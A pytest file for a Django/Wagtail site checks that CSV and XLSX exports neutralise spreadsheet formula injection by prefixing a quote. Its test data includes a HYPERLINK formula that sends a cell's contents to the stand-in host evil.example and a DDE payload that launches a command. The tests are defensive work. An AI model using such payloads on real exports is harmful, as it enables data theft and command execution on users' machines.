"""Every CSV and XLSX the site produces is safe to open in a spreadsheet program (issue 11):
cells beginning with =, +, -, @, a tab or a carriage return are neutralised, numbers stay
numbers, and XLSX cells are values, never formulas."""

import csv
import io
import zipfile
from decimal import Decimal

from django.urls import reverse

import pytest

from cms.spreadsheets import safe_cell, unescape_cell

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
DDE = "=cmd|' /C calc'!A0"
PAYLOADS = [HYPERLINK, DDE, "+SUM(1,2)", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_triggers_get_a_quote(payload):
    assert safe_cell(payload) == "'" + payload
    assert unescape_cell(safe_cell(payload)) == payload


@pytest.mark.parametrize("number", [-3, -3.5, Decimal("-12.50"), "-3", "-3,5", "-1.25", "+31"])
def test_numbers_stay_usable(number):
    assert safe_cell(number) == number


@pytest.mark.parametrize("text", ["Zaanstad", "", None, "a=b", "'quoted", "3-4"])
def test_ordinary_text_is_unchanged(text):
    assert safe_cell(text) == text
    if text:
        assert unescape_cell(text) == text


def csv_rows(response):
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(content)))


def xlsx_formulas(content: bytes) -> list[str]:
    """The <f> elements of every sheet: what a spreadsheet program would evaluate."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)
        ]


def all_values(workbook):
    return [
        cell.value
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


@pytest.mark.django_db
def test_wagtail_report_export_neutralises_formulas(client, home_page):
    """A listing export Wagtail itself offers (the aging pages report) is covered too."""
    from demo.factories.users import UserFactory

    home_page.title = DDE
    home_page.save_revision().publish()
    client.force_login(UserFactory(is_superuser=True))
    rows = csv_rows(client.get(reverse("wagtailadmin_reports:aging_pages"), {"export": "csv"}))
    cells = [cell for row in rows for cell in row]
    assert "'" + DDE in cells and DDE not in cells
